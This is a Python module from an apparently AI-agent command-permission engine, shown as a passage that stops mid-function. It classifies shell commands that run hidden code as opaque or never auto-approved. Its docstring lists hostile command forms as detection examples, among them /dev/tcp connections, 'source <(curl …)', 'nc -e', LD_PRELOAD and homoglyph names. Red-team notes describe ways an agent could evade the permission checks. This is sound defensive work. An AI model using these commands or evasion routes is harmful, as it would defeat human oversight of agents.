"""What programs do with their arguments: the engine's command knowledge, one module per family (STYLE 16).

- ``syntax``: how a program's parser reads its options (getopt / getopt_long), as data.
- ``wrappers``: programs that exec the command after their options (``env``, ``nice``, ``timeout``,
  ``sudo``, ``chronic``, ``pkexec`` ...) and package runners (``npx``, ``npm exec``, ``uv run`` ...).
- ``views``: peeling those off, every reading of uncertain options (R4.8).
- ``shells``: ``sh -c`` and the programs that hand a string to a shell (``su -c``, ``flock -c`` ...).
- ``runners``: programs that run a command line given in their arguments (``watch``, ``ssh host CMD``,
  ``parallel``, ``rsync -e``, ``tar --to-command``, ``trap``, ``mapfile -C``, ``git -c core.pager`` ...).
- ``environment``: variables that carry a command line or load code.
- ``interpreters``: inline code in another language; ``textproc``: awk and sed programs.
- ``cargo``: its own commands (any other subcommand is an alias or a ``cargo-<word>`` program).
- ``git``, ``find``: their runners, state-changing forms, config keys and branch names.
- ``privilege``: programs that run as another user (cap_privileged).
- ``options``: each program's option table (R4.10): spellings, arity, abbreviations, clusters, subcommands.
- ``gh``: GitHub CLI's own commands (any other is an alias or an extension: opaque).

The next program is one entry in its family's table. decide(), the shell reader, matching, caps, the floor
and approve-always read from here.

SPEC readings chosen where SPEC is silent (closed world, R4.9; stricter where unsure):

1. Inline code in another language (``python -c``, ``perl -e``, ``node -e``, ``ruby -e``, ``php -r``,
   ``awk`` with ``system()``/``getline``/pipes/``print >``, ``sed`` with ``e``/``w``/``r``, ``vim -c``,
   ``emacs --eval``, ``gdb -ex``, ``make --eval``) and a program read from the input or from another
   command's output (``python3`` with no script, ``bash /dev/stdin``, ``source <(curl …)``,
   ``make -f -``) are opaque (R4.9). A script file or a module (``python3 -m pytest``) is not, except the
   modules that run code from their arguments (``python3 -m timeit 'stmt'``, ``-m code``, ``-m pdb``).
   So are SQL given to a client that has shell escapes (``psql -c``, ``mysql -e``, ``sqlite3 db '.shell'``),
   a pager's start-up shell command (``less '+!cmd'``), commands scheduled for later (``at``, ``batch``,
   ``crontab FILE``) and an awk/sed program that comes from an expansion (``sed "s/a/$X/"``: the
   variable could add an ``e`` command).
   ``gawk --sandbox`` and ``sed --sandbox`` are read as safe: they refuse exactly what makes the program
   opaque.
2. A command line a program runs through a shell (``watch``, ``ssh host CMD``, ``parallel``, ``rsync -e``,
   ``tar --to-command``/``-I``/``--checkpoint-action=exec=``, ``sort --compress-program``, ``trap``,
   ``mapfile -C``, ``npx -c``, ``man -P``, ``git -c`` keys that name programs, ``git config`` setting them,
   ``git rebase --exec``, ``git submodule foreach``, ``GIT_SSH_COMMAND=`` and alike) is read as segments,
   like ``sh -c`` (R4.7): deny sees them, and an allow must cover them too. Remote commands (``ssh``,
   ``rsync --rsync-path``) are judged as if local: a rule cannot know the other host.
3. Programs that exec argv (``chronic``, ``pkexec``, ``run0``, ``gosu``, ``strace``, ``npx pkg``,
   ``npm exec``, ``uv run``) are transparent wrappers (R4.8 views): deny, ask, the floor and the caps see
   the command inside; allow judges the command as written, so ``Terminal(npx vitest)`` keeps working.
4. Settings that load code no rule can read -- ``LD_PRELOAD``, ``BASH_ENV``, ``NODE_OPTIONS``,
   ``git -c core.hooksPath``/``include.path``, ``--config-env`` for a program-valued key -- make the
   segment opaque; a command word taken from the input (``xargs -I{} {}``, ``find -exec {} ;``) too.
5. Privileged (cap_privileged): besides ``sudo``/``doas``, ``su`` in every form, ``sudoedit``,
   ``pkexec``, ``run0``, ``runuser``, ``setpriv``, ``capsh``, ``gosu``, ``su-exec``, ``systemd-run``
   (without ``--user``), ``machinectl shell|login`` and other sudo-likes.
6. The floor (R4.6) denies ``rm -r`` over a glob of the root's children (``/*/``, ``/?*``, ``/.[!.]*``,
   ``/[a-z]*``, ``/*/*``): any path whose first component is a pattern. A literal child (``/etc``, also
   ``/{bin,usr}`` once expanded) stays outside the floor -- R4.6 is "a floor, not a safety list" and an
   existing test holds ``rm -rf /../etc`` out of it; the path scope still asks for it.
7. A path glued to a short option (``-f/etc/x``, ``-C/etc``, ``-I../..``, ``-o~/x``) is a location
   (R6.2), except a lone ``/`` after a separator option (``cut -d/``, ``awk -F/``, ``sort -t/``). The
   program of awk and sed is code, not a location (``sed '/^$/d' f`` names no path).
8. A sed script or awk program the reader cannot follow (an unknown sed command, ``sed src/x.rs``) is
   opaque: fail closed. ``docker|podman run|exec`` are looked through (the command still reaches the
   network and mounted folders); ``tmux new|split-window|run-shell`` commands are segments (every command
   after tmux's ``;``), as are the settings tmux runs later (``set -g editor|copy-command|lock-command|
   default-command``, a hook set as an option, a ``command-alias``, any ``#(cmd)`` format) and ``setenv NAME
   VALUE`` is read as ``export NAME=VALUE``; ``tmux send-keys`` is unseen.
9. A merge target is canonicalised as git reads a branch name (``refs/heads/`` dropped, NFKC); a revision
   expression or refspec (``main^{}``, ``HEAD:main``, ``+main``, ``:main``, ``main~0``, ``main@{0}``) or
   a name git refuses is refused at proposal (400); for the cap, a target any of whose ``/``-suffixes
   names a protected branch, compared case-insensitively (``origin/main``, ``heads/main``, ``MAIN``), is
   protected.
10. [beyond SPEC] A redirection to ``/dev/tcp/HOST/PORT`` or ``/dev/udp/HOST/PORT`` (``exec 3<>/dev/tcp/h/80``,
   ``echo x >/dev/udp/h/53``, ``cat </dev/tcp/h/80``) is bash opening a network connection: an external
   effect (``cap_external_effect``), so autonomy, auto mode and the container floor never approve it. A
   ``/dev/`` target built from an expansion (``>/dev/$p/h/80``) may be one and is capped too.
11. A here-string or here-document given to a program that runs its input as shell commands (``sh``,
   ``bash -s``, ``source /dev/stdin``, ``su``, ``at``, ``ssh host``) is its script: read as segments
   (R4.7), the program staying never auto-approved as before. Framework shells that run code given as an
   argument or on their input (``manage.py shell``, ``django-admin shell``, ``rails runner``,
   ``rails console``, ``php artisan tinker``, ``mix run -e``, ``flask shell``) are inline code (R4.9).
12. [red team, R4.9] A call of an alias defined in the command is read with the alias's value in front
   of its arguments (`alias x='env '; x curl` runs `env curl`), and a call of a function or alias defined
   in the command is never auto-approved, not even by an allow written for the call's exact words.
13. Declaration builtins (``export``, ``declare``, ``typeset``, ``readonly``, ``local``) assign like leading
   assignments: a command-valued variable (``export PAGER='curl x'``) is read as segments, a code-loading
   one is opaque. Setting ``PATH`` (also standalone, ``PATH=/tmp; ls``), ``LD_LIBRARY_PATH``, ``GIT_DIR``,
   ``GIT_CONFIG*`` or any ``npm_config_*`` makes the segment opaque. ``hash -p`` and ``enable`` with
   operands make the whole command never auto-approved. A command word holding non-ASCII characters
   (``ｃｕｒｌ``) is opaque.
14. Programs named in options are segments: ``fd -x/-X``, ``rg --pre``/``--hostname-bin``, ``zip -TT``/
   ``--unzip-command`` (also ``-TTcmd``), ``hyperfine -S``, ``watchexec --shell``, ``pip --python``, ``mypy
   --python-executable``, ``pandoc -F``, ``mosh --ssh|--server``, ``dpkg-buildpackage -r``, ``wget -e
   use_askpass=``, a ``SHELL=`` that names no shell, ``man --html=``/``-H…``, ``make SHELL=`` (its recipes stay unseen), ``git grep -O``,
   ``git`` ``ext::`` addresses, ``npm --script-shell``, ``npm explore … -- cmd``; ``ssh -F`` /
   ``scp -F`` (a config file that can run commands), ``git -c protocol.*.allow``, ``git filter-repo``
   callbacks and ``nix run`` are never auto-approved. ``flock FILE cmd``, ``systemd-inhibit``,
   ``proot``, ``bwrap``, ``perf record|stat|trace``, ``gdb --args``, ``stack|cabal exec``,
   ``hatch|devbox|rye|pixi run``, ``direnv exec DIR`` are wrappers. The verb given as a path
   (``/bin/sh -c``) carries its script like the bare name.
15. More shells (``csh``, ``tcsh``, ``yash``, ``posh``, ``rbash``, ``ksh93``, ...) run ``-c`` scripts
   and read their input; more languages have inline code (``groovy``, ``scala``, ``erl``, ``jshell``,
   ``jrunscript``, ``ghci``, ``irb``, ``swift``, ``kotlin``, ``raku``, ``guile``, ``racket``, ``sbcl``,
   ``clisp``, ``clojure``, ``bb``, ``dc``, ``nu``, ``elvish``, ``xonsh``, ``crystal eval``,
   ``dotnet script eval``/``fsi``); ``psql``/``mysql`` with no ``-c``/``-f`` read SQL (with ``\\!``
   shell escapes) from the input, and so does ``sqlite3 db`` (statements and dot-commands such as
   ``.shell``); SQL Server's ``sqlcmd`` with ``-Q``/``-q`` (``xp_cmdshell``) or reading its input (``!!cmd``).
   [red team] Prompts by other names (``ipython``, ``deno``, ``lein repl``, ``sbt console``, ``python3 -i
   x.py``, ``swipl f.pl`` ...) read code from their input wherever they run (permissions.commands.repls).
16. Text piped into a shell from ``printf`` is its script (as from ``echo``): plain formats, ``%s`` joined,
   escapes read both as written and decoded.
17. Arithmetic (``$((n))``, ``((n))``, ``let``, ``declare -i``, ``${a[n]}``, ``${s:n}``) in a command that
   also reads a value at run time (``read``, ``mapfile``, ``n=$(...)``, ``for n in $(...)``) is never
   auto-approved: bash evaluates the value, and a subscript in it runs commands (permissions.commands.
   arithmetic). A file the command writes (redirection, ``tee``, ``cp`` ...) and then runs as a program or
   script is never auto-approved. ``ssh``/``scp``/``rsync`` as ``root`` are privileged (cap_privileged).
18. A grep-like's pattern (``grep``, ``rg``, ``ag``, ``ack``: the first operand, or ``-e``'s value) is
   text, not a location for the path scope; its file operands and ``-f`` files still are.
19. More exec-after-options wrappers (``ssh-agent``, ``setarch``, ``screen``, ``dtach``, ``ccache``,
   ``toybox``, the dynamic loader ``ld.so`` …), ``socat EXEC:``/``SYSTEM:``, ``nc``/``ncat -e``/``-c``,
   ``go -toolexec``/``-exec``/``-vettool``, ``meson --wrapper``, ``CARGO_TARGET_*_RUNNER``,
   ``RUSTC_WRAPPER`` are read as segments; ``go generate``, ``cargo --config`` naming a program,
   ``GOFLAGS`` with ``-toolexec``, ``screen -X``, ``mvn -Dexec.*`` are never auto-approved. ``CC``/``CXX``
   in front of ``make`` are left as they were (common, and the Makefile decides what runs anyway).
20. Privileged (cap_privileged) also: ``nsenter``, ``chroot``, and a container engine given the host
   (``docker|podman run|create|exec`` with ``--privileged``, ``--pid=host`` …, ``--cap-add``,
   ``--device``, a bind mount of ``/`` or of a ``.sock``).
21. [R4.9, programs that run programs] A ``git`` subcommand that is not one of git's own commands (``git st``, ``git lfs``:
   an alias from git's configuration, whose ``!`` form is a shell line, or a ``git-<word>`` program on the
   PATH) is opaque (R4.9): never auto-approved by a prefix allow, autonomy, auto mode or the container
   floor; an allow written for exactly those words covers it, and deny and ask see it as before. git's own
   commands are those of every release from 2.39 to 2.47 that a default install has
   (permissions.commands.git.GIT_COMMANDS). ``hub`` (GitHub's git wrapper) with any subcommand but its own
   is read as git too (a view: deny, ask, the caps, the prefix-allow guard and the alias reading above see
   ``hub push`` as ``git push``); hub's own publishing commands (``pull-request``, ``release``, ``create``,
   ``fork``, ``delete``, ``api`` when it writes ...) are external effects, like ``gh``'s. Likewise a
   ``cargo`` subcommand outside cargo's built-in commands and aliases and rustup's ``clippy``/``fmt``
   (``cargo xtask``, ``cargo nextest``: an ``[alias]`` of a ``.cargo/config.toml`` the repository may carry,
   or a ``cargo-<word>`` program) is opaque (permissions.commands.cargo). git's own commands that run a
   program by their nature (``hook run``, credential helpers, ``web--browse``, ``daemon``, ``remote-ext``,
   ``shell`` ...) are never covered by a prefix allow.
22. [R4.7, the read budget] R4.7 keeps every segment read and deny-checked at any size, so hostile sizes are
   met by cost, not by a limit: a command that can never be auto-approved (unparseable, or past 10,000
   characters or 50 segments) skips the work only an auto-approval needs (the opaque reading of segments
   no rule allowed, the caps' views). Brace expansion's budget is counted in time-like units (a character
   scanned or produced, plus a fixed charge per expansion): a brace word past it makes the command
   unparseable, with the words produced so far still judged -- stricter than expanding on, never laxer.
23. [R4.10] A deny/ask pattern for a program with an option table (permissions.commands.options)
   matches a segment when its subcommand path is a prefix of the segment's, its options are among the
   segment's however spelled, and its operands are a word prefix of the rest. Options count anywhere
   before ``--`` even for parsers that stop at the first operand (BSD ``rm``, Go's flag package): deny
   matches more. ``docker run|exec|create`` stop at the image or container (what follows is the command
   inside, a view of its own). An abbreviation the parser finds ambiguous is read as every option it
   begins (the program refuses it anyway); an option the table does not know is read both as a flag and
   as taking the next word. Equivalent acts are one meaning: ``git branch -D`` is ``-d -f`` (``-M``,
   ``-C`` likewise), ``git checkout -B`` / ``switch -C`` force, ``git push`` with a ``+ref`` refspec,
   ``--force-with-lease`` or ``--mirror`` forces and with ``:ref`` deletes, ``git -c core.hooksPath=…``
   is ``--no-verify``, ``terraform destroy`` is ``terraform apply -destroy``, curl's data and form
   options are ``-X POST``, ``npm --location=global`` is ``-g``; ``grm``/``gsed``/``pip3.12`` are
   ``rm``/``sed``/``pip``. The caps read a cap verb's segment as its table does too (``npm unpub``).
   The program that runs is resolved in one place (views): git's helper binaries (``git-push``, under
   ``git-core/``), ``corepack <pm>``, ``python -m <module>``, a package manager's options before its
   runner subcommand (``pnpm -r exec``), ``nx exec``, ``lerna exec``, ``yarn workspace(s)``; an alias
   defined in the command (``git -c alias.p=push p``) or for later (``git config alias.p push``,
   ``gh alias set m 'pr merge'``) is read as what it stands for, so a deny or a cap of that act refuses
   or asks for the definition; calling an alias or extension of gh (a word outside gh's own commands) is
   opaque, like git's. ``turbo run`` runs package scripts by name, not a named tool: not a launcher.
24. [R4.9, R4.8] A word that chooses which act a cap program performs -- its subcommand after global options,
   the next verb while the words so far still lead to an external form (``gh pr $X``, ``kubectl rollout $X``),
   a cloud CLI's verbs up to the one that decides (``aws s3 $X``), a task's name for a task runner
   (``npm run $X``, ``make dep*``, ``just $X``), an option's name (``docker build --pu*``), or the program a
   wrapper runs (``timeout 5 $X``, ``npx pub*``) -- that is not literal (an unquoted glob bash expands against
   file names the agent can create, a parameter expansion, a command substitution) leaves the act unknown:
   the segment is opaque (permissions.caps.unread_act). A quoted glob (``npm 'pub*'``) is literal; a value
   glued to a literal option name (``-j$(nproc)``, ``--tag=$T``) and operands (``npm install $PKG``) are not
   such words. A runner whose operands may all be tasks reads a recipe's argument as one (``just test $ARG``).
"""

from __future__ import annotations

import re
from collections.abc import Callable, Collection, Sequence

from permissions.commands.agent_clis import (
    AGENT_CLIS,
    CLIENT_REMOVERS,
    ELSEWHERE_LAUNCHERS,
    UNHOOKED_AGENTS,
    agent_settings_given,
    agent_started_elsewhere,
    brabo_client_removed,
    unhooked_agent_acts,
)
from permissions.commands.cargo import unknown_cargo_command
from permissions.commands.conan import unknown_conan_command
from permissions.commands.containers import DEFINING_ENGINES, definition_from_input
from permissions.commands.desktop import OPENERS, desktop_runs
from permissions.commands.environment import (
    DECLARATION_BUILTINS,
    NAME_ASSIGNERS,
    assignment_carried,
    assigns_by_name,
    homes_by_variable,
    loaded_by_variable,
)
from permissions.commands.expression_reads import OPAQUE_EXPRESSIONS, expression_opaque
from permissions.commands.gh import unknown_gh_command
from permissions.commands.git import unknown_git_command
from permissions.commands.interpreters import FROM_INPUT as PROGRAM_FROM_INPUT
from permissions.commands.interpreters import INLINE_CODE, code_opaque, is_code_verb, wsl_opaque
from permissions.commands.loaded_input import SETTINGS_FROM_INPUT, settings_from_input
from permissions.commands.migrations import store_in_arguments
from permissions.commands.option_commands import KUBECONFIG_WRAPPERS, docker_settings, named_settings
from permissions.commands.runners import (
    CARRIER_TRIGGERS,
    CARRIER_VERBS,
    INPUT_SCRIPT_FIRST,
    Carried,
    carried,
    new_carried,
    runs_its_input,
)
from permissions.commands.shell_starters import FED_ESCAPES
from permissions.commands.textproc import AWKS, SED_MAY_RUN, SEDS, awk_opaque, program_words, sed_opaque
from permissions.commands.views import (
    KNOWN_PROGRAMS,
    flatpak_default_command,
    foreign_name,
    handed_line,
    hands_on,
    is_assignment,
    views,
    views_of,
)
from permissions.commands.wrappers import (
    GNU_PREFIXED,
    OTHER_NAMES,
    PACKAGE_BINS,
    PACKAGE_SPELLS,
    PEELED_VERBS,
    POSARGS_RUNNERS,
    SUBCOMMAND_RUNNERS,
    WRAPPERS,
    peels_after,
    versioned_program,
)
from permissions.commands.writes import FORMATTERS, WHOLE, may_write, targets
from permissions.memos import Memo

__all__ = [
    "FED_COMMANDS",
    "FED_PROGRAM",
    "FILE_WRITERS",
    "MAY_CARRY_FIRST",
    "OPAQUE_VERBS",
    "Carried",
    "carried_scripts",
    "carries_commands",
    "fed_commands",
    "feeds_a_program",
    "feeds_a_script",
    "foreign_name",
    "hands_a_data_store",
    "hands_on",
    "opaque_reason",
    "STREAM_LOADERS",
    "loads_from_input",
    "runs_a_written_file",
]

# First words whose segment may be opaque on its own (decide's quick filter; views add the rest).
OPAQUE_VERBS: frozenset[str] = (
    INLINE_CODE
    | AWKS
    | SEDS
    | NAME_ASSIGNERS
    | AGENT_CLIS
    | ELSEWHERE_LAUNCHERS
    | UNHOOKED_AGENTS
    | CLIENT_REMOVERS  # (pip's and uv's segments: Brabo's client uninstalled, brabo_client_removed)
    | OPENERS  # (what the desktop runs: permissions.commands.desktop)
    | {"git", "cargo", "gh", "flatpak", "conan"}
    | OPAQUE_EXPRESSIONS  # (red team: an expression reading a file named at run time, expression_reads)
    | frozenset(KUBECONFIG_WRAPPERS)  # (red team: a kubeconfig an option names, named_settings: flux's too)
)
# The programs whose settings or definitions from the input run code (loaded_input, containers): read by
# loads_from_input, only where a segment's text may name a stream (segments: may_name_a_stream).
STREAM_LOADERS: frozenset[str] = frozenset(SETTINGS_FROM_INPUT) | DEFINING_ENGINES


def loads_from_input(views: Sequence[tuple[str, ...]]) -> str | None:
    """red team, R4.9: why a view of a segment loads settings that run code (loaded_input.settings_from_input) or a
    container definition (containers.definition_from_input) from the input, or None. The caller has found that the
    segment's text may name a stream."""
    for view in views:
        verb = view[0] if view else ""
        if verb in SETTINGS_FROM_INPUT:
            why = settings_from_input(view)
        elif verb in DEFINING_ENGINES:
            why = definition_from_input(view)
        else:
            continue
        if why is not None:
            return why
    return None


_FROM_INPUT_WORD = "the command word comes from the input"


# Programs that may run a command no rule can read: R4.9, git's and cargo's aliases and `git-<word>` /
# `cargo-<word>` programs, conan's custom commands; R4.10, gh's aliases and extensions; red team, the command a
# flatpak app's manifest names; R3.7, a nested coding agent handed other settings, its hooks among them, or
# started where the environment its hook reads may not follow.
def _wsl_launched(view: tuple[str, ...]) -> str | None:
    """WSL: an agent started where the hook's environment may not follow, or the shell it starts on its input."""
    return agent_started_elsewhere(view) or wsl_opaque(view)


def _xargs_runs_its_input(view: tuple[str, ...]) -> str | None:
    """R4.9: xargs running a wrapper given no command (`xargs -a p nohup`, `cat p | xargs env`, `xargs timeout 5`)
    runs the first word it reads as the command, as `xargs -I{} {}` does."""
    found = views_of(view)
    last = found[-1] if len(found) > 1 else ()
    return _FROM_INPUT_WORD if last and last[0] in WRAPPERS else None


_UNKNOWN_COMMANDS: dict[str, Callable[[tuple[str, ...]], str | None]] = {
    "xargs": _xargs_runs_its_input,
    "git": unknown_git_command,
    "gh": unknown_gh_command,
    "cargo": unknown_cargo_command,
    "conan": unknown_conan_command,
    "flatpak": flatpak_default_command,
    **dict.fromkeys(AGENT_CLIS, agent_settings_given),
    **dict.fromkeys(ELSEWHERE_LAUNCHERS, agent_started_elsewhere),
    **dict.fromkeys(("wsl", "wsl.exe"), _wsl_launched),
    **dict.fromkeys(UNHOOKED_AGENTS, unhooked_agent_acts),
    **dict.fromkeys(CLIENT_REMOVERS, brabo_client_removed),
    # red team (R3.7): a kubeconfig named by an option, its credential plugin a program kubectl runs
    **dict.fromkeys(KUBECONFIG_WRAPPERS, named_settings),
}


def _then(
    reader: Callable[[tuple[str, ...]], str | None] | None, more: Callable[[tuple[str, ...]], str | None]
) -> Callable[[tuple[str, ...]], str | None]:
    """A verb read another way too (`nix develop -c claude` starts an agent elsewhere): that reading first, then
    ``more`` -- an expression reading a file named at run time (red team, R4.9)."""
    if reader is None:
        return more
    return lambda view: reader(view) or more(view)


_UNKNOWN_COMMANDS.update(
    {verb: _then(_UNKNOWN_COMMANDS.get(verb), expression_opaque) for verb in OPAQUE_EXPRESSIONS}
)
# red team (R3.7): docker's settings folder named by its `--config` (an agent started in a container first)
_UNKNOWN_COMMANDS["docker"] = _then(_UNKNOWN_COMMANDS["docker"], docker_settings)


def _code_then(reader: Callable[[tuple[str, ...]], str | None]) -> Callable[[tuple[str, ...]], str | None]:
    """A verb read both ways (`nix repl` opens a prompt, `nix develop -c claude` starts an agent elsewhere):
    code_opaque's reading first, then the verb's own."""
    return lambda view: code_opaque(view) or reader(view)


_UNKNOWN_COMMANDS.update(
    {verb: _code_then(_UNKNOWN_COMMANDS[verb]) for verb in INLINE_CODE & _UNKNOWN_COMMANDS.keys()}
)


def _then_desktop(reader: Callable[[tuple[str, ...]], str | None]) -> Callable[[tuple[str, ...]], str | None]:
    """A desktop opener read another way too (`open -a Terminal claude` starts an agent elsewhere): that
    reading first, then what the desktop runs (permissions.commands.desktop)."""
    return lambda view: reader(view) or desktop_runs(view)


_UNKNOWN_COMMANDS.update(
    {
        verb: _then_desktop(_UNKNOWN_COMMANDS[verb]) if verb in _UNKNOWN_COMMANDS else desktop_runs
        for verb in OPENERS
    }
)

_CODE_ONLY = INLINE_CODE - _UNKNOWN_COMMANDS.keys()  # (the verbs read both ways go through _UNKNOWN_COMMANDS)


_LOOK_ALIKE = "the command word holds characters outside ASCII, which may pose as another program's name"


def opaque_reason(all_views: Sequence[tuple[str, ...]], dynamic: Collection[int] = ()) -> str | None:
    """R4.9: why some view of a segment runs code no rule can read (inline code, a program from the input,
    code loaded through the environment, an awk/sed program taken from a variable), or None. ``dynamic``:
    the indexes of the words of the first view (the segment as written) that depend on an expansion."""
    if dynamic and all_views and any(k in dynamic for k in program_words(all_views[0])):
        return "the program comes from an expansion, which no rule can read"
    for view in all_views:
        if not view:
            continue
        verb = view[0]
        if verb in QUIET_VERBS:
            continue  # (most views: no reading below is for its verb)
        why: str | None = None
        # is_code_verb(verb), its common answer without the call (only a versioned name needs it)
        if verb in _CODE_ONLY or (verb[-1:].isdigit() and is_code_verb(verb)):
            why = code_opaque(view)
        elif verb in AWKS:
            why = awk_opaque(view)
        elif verb in SEDS:
            why = sed_opaque(view)
        elif verb in _UNKNOWN_COMMANDS:
            why = _UNKNOWN_COMMANDS[verb](view)
        elif "{}" in verb:
            why = _FROM_INPUT_WORD  # `xargs -I{} {}`, `find -exec {} ;`: filled in from the input
        elif not verb.isascii() and not is_assignment(verb):
            # R4.9: `ｃｕｒｌ`, a Cyrillic `с`: no rule names it, and it may pose as one (an assignment names no
            # program: its value may be any text, and a substitution's is the reader's `$(…)`)
            why = _LOOK_ALIKE
        if why is None and ("=" in verb or verb == "env" or verb == "exec" or verb in DECLARATION_BUILTINS):
            why = assignment_carried(view)[1]
        if why is None and verb in NAME_ASSIGNERS:
            why = assigns_by_name(view, dynamic if view is all_views[0] else ())  # R4.9
        if why is not None:
            return why
    return None


def reads_view(verb: str) -> bool:
    """Whether one of opaque_reason's readings of a view is for a view led by ``verb`` (else it finds nothing in
    that view, whatever its other words)."""
    return (
        verb in _CODE_ONLY
        or (verb[-1:].isdigit() and is_code_verb(verb))
        or verb in AWKS
        or verb in SEDS
        or verb in _UNKNOWN_COMMANDS
        or "{}" in verb
        or not verb.isascii()
        or "=" in verb
        or verb == "env"
        or verb == "exec"
        or verb in DECLARATION_BUILTINS
        or verb in NAME_ASSIGNERS
    )


# The programs Brabo knows that opaque_reason has no reading for (not reads_view): a view led by one is passed
# over with one look-up. Filled last in this module, once the vocabulary has filled views.KNOWN_PROGRAMS.
QUIET_VERBS: set[str] = set()


_NOTHING = Carried()
# First words a segment that carries a command line can start with (besides paths and assignments).
MAY_CARRY_FIRST: frozenset[str] = CARRIER_VERBS | PEELED_VERBS
# (a verb that is also a wrapper, `dotenv cmd` besides `dotenv run cmd`, is peeled whatever follows it)
# (tox hands its posargs on whatever its first word: POSARGS_RUNNERS)
_SUB_FIRST = (
    frozenset(verb for verb, _ in SUBCOMMAND_RUNNERS) - CARRIER_VERBS - WRAPPERS.keys() - POSARGS_RUNNERS
)
# wrappers whose views hold words the segment does not (a package's name is read as its program's:
# `npx chokidar-cli -c cmd` is `chokidar -c cmd`)
_REBUILDS = (
    frozenset({"env", "capsh", "hub", "gh", "autossh"}) | frozenset(PACKAGE_BINS) | frozenset(PACKAGE_SPELLS)
)
# words whose peeled view may carry a command (a CARRIER_TRIGGERS verb only with one of its strings)
_UNCOVERS = CARRIER_VERBS | frozenset(PACKAGE_BINS) | {"autossh"}  # (autossh: its view is ssh's)
_ALWAYS_READ = CARRIER_VERBS - CARRIER_TRIGGERS.keys()  # carrier verbs read whatever their words
_FROM_INPUT_LINE = "the command line is built from the input, which no rule can read"


def _placeholder(view: tuple[str, ...]) -> str | None:
    """The string ``xargs -I``/``-i``/``--replace``, ``find -exec`` or ``parallel`` replaces with input."""
    verb = view[0]
    if verb == "find" or verb == "parallel" or verb == "sem":
        return "{"
    if verb != "xargs":
        return None
    for k, w in enumerate(view[1:], 1):
        if w == "--":
            break
        if w == "-I" or w == "--replace":
            return view[k + 1] if k + 1 < len(view) and w == "-I" else "{}"
        if w.startswith("-I"):
            return w[2:]
        if w.startswith("--replace="):
            return w[len("--replace=") :] or "{}"
        if w.startswith("-i"):
            return w[2:] or "{}"
    return None


_RENAMED = {**GNU_PREFIXED, **OTHER_NAMES}
# ... and their other released names (`uu-chroot`, a shell starter as chroot is: `aa-exec uu-chroot root`)
_UNCOVERS = _UNCOVERS | frozenset(name for name, verb in _RENAMED.items() if verb in _UNCOVERS)


def _may_carry(words: tuple[str, ...]) -> bool:
    first = words[0] if words else ""
    if first in CARRIER_VERBS:
        if first not in CARRIER_TRIGGERS or _triggered(words, first):
            return True
        if first not in PEELED_VERBS:
            return False
        # red team: a shell starter behind its subcommand that is a runner too (`poetry run sh -c …`, not
        # `poetry shell`): peeled as below
    if first[-1:].isdigit() and (versioned := versioned_program(first)) is not None:
        # R4.10: a program by a versioned name carries what it carries (`createdb-10 /bin/sh -c …` peels as createdb)
        return _may_carry((versioned, *words[1:]))
    if first not in PEELED_VERBS and "/" not in first and "=" not in first:
        # R4.10: `BASH -c …`, `sh.exe -c …` run a shell; red team: a program Brabo does not know may hand a
        # carrier its words (`wait-for-it db:5432 -- bash -c '…'`): the full reading decides
        return foreign_name(first) or (len(words) > 1 and hands_on(words) and _hands_a_line(words))
    if first in _RENAMED:
        # red team: a program by its other released name carries what it carries (`yarnpkg x exec curl …`)
        return _may_carry((_RENAMED[first], *words[1:])) or first in _REBUILDS
    if "=" in first:
        # `x=1 cmd ...` (R4.9: hostile input sends thousands): when `cmd` is a plain verb, the views are
        # the segment and `cmd ...` alone, which carries nothing, so what is carried is what the assignments
        # carry -- answered here without peeling. Otherwise (`x=1 sh -c ...`) the full reading decides.
        k = 1 if is_assignment(first) else 0
        while 0 < k < len(words) and is_assignment(words[k]):
            k += 1
        if k and (
            k == len(words) or (_plain_first(words[k]) and not (len(words) - k > 1 and hands_on(words[k:])))
        ):
            scripts, opaque = assignment_carried(words)
            return bool(scripts) or opaque is not None
    if first in _SUB_FIRST and (len(words) < 2 or not peels_after(first, words[1])):
        return False  # `npm test`, `uv sync`: nothing is peeled (`pnpm -r exec …`, `pnpm sh -c …` may be)
    if "/" in first and first.rsplit("/", 1)[-1] in MAY_CARRY_FIRST:
        return True  # R4.9: `/bin/sh -c '...'`, `/usr/bin/env sh -c '...'` -- the verb given as a path
    # Peeling only ever uncovers words already in the segment (env -S and capsh build new ones): a carrier,
    # a verb path, or an assignment a wrapper passes on (`linux64 PAGER='curl x' git log`).
    return (
        first in _REBUILDS
        or "=" in first
        or any(
            (w in _UNCOVERS and (w not in CARRIER_TRIGGERS or _triggered(words, w)))
            or w in _REBUILDS  # (behind a wrapper too: `aa-exec nun exec x` is read as `nun …` is)
            or "/" in w
            or "=" in w
            or (" " in w and handed_line(w) is not None)  # red team: `nice foo "git push"` (views.hands_on)
            for w in words[1:]
        )
    )


def _hands_a_line(words: tuple[str, ...]) -> bool:
    """Whether a program Brabo does not know (views.hands_on) is handed a carrier (`foo -- bash -c …`) or a
    command line (`foo --cmd "git push"`): its scripts are read (runners.carried). A carrier by its path too (`foo
    /bin/sh -c …`)."""
    return not _UNCOVERS.isdisjoint(words) or any(
        handed_line(w) is not None or ("/" in w and w.rpartition("/")[2] in _UNCOVERS) for w in words[1:]
    )


def _triggered(words: tuple[str, ...], verb: str) -> bool:
    """Whether the words of a segment where ``verb`` (in CARRIER_TRIGGERS) stands hold one of its strings
    (without one, its reader finds nothing: `wget URL`, `apt-get install x`): one search of their alternation."""
    return _TRIGGERS[verb]("\0".join(words) + "\0") is not None


_TRIGGERS = {verb: re.compile("|".join(map(re.escape, t))).search for verb, t in CARRIER_TRIGGERS.items()}
_TRIGGERS.update(dict.fromkeys(SEDS, SED_MAY_RUN))  # (sed's `e`: where it may be a command or a flag)


def _plain_first(verb: str) -> bool:
    """A verb whose segment has one view (nothing to peel, see views) that carries nothing (see carried)
    and does not run its input (see runs_its_input: feeds_a_script takes _may_carry as its filter too)."""
    return (
        verb not in CARRIER_VERBS
        and verb not in PEELED_VERBS
        and verb not in INPUT_SCRIPT_FIRST
        and "/" not in verb
        and "=" not in verb
        and not foreign_name(verb)
    )


# Hostile input repeats itself (10,000 copies of one segment): answers are kept for identical words.
_CACHE: Memo[tuple[str, ...], Carried] = Memo()


def carried_scripts(words: tuple[str, ...]) -> Carried:
    """Every command line some view of the segment ``words`` runs (R4.7, R4.9), with whether one cannot be
    read (problem) or runs commands no rule can see (unseen)."""
    if not _may_carry(words):
        return _NOTHING
    return _carried_kept(words)


def _carried_kept(words: tuple[str, ...]) -> Carried:
    """_carried_scripts, kept by words (for a segment _may_carry let through)."""
    hit = _CACHE.get(words)
    return _CACHE.keep(words, _carried_scripts(words)) if hit is None else hit


def _carried_scripts(words: tuple[str, ...]) -> Carried:
